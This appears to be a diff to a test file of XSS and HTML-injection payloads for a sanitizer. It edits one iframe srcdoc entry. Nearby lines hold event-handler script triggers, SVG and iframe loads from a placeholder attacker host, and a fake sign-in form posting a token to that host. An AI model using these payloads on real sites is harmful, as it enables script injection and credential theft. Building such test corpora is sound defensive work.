@@ -17,7 +17,7 @@ MARKUP = (
     f"<svg><use href='{EVIL}/x.svg#x'></use></svg>",
     f"<math><mtext><style><img src=x onerror='{MARK}'></style></mtext></math>",
     f"<iframe src='{EVIL}'></iframe>",
-    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
+    f'<iframe srcdoc="<script>{MARK.replace("window", "parent")}</script>"></iframe>',
     f"<form action='{EVIL}'><input name=token><button autofocus>Sign in</button></form>",
     f"<input autofocus onfocus='{MARK}'>",
     f"<details open ontoggle='{MARK}'><summary>x</summary></details>",
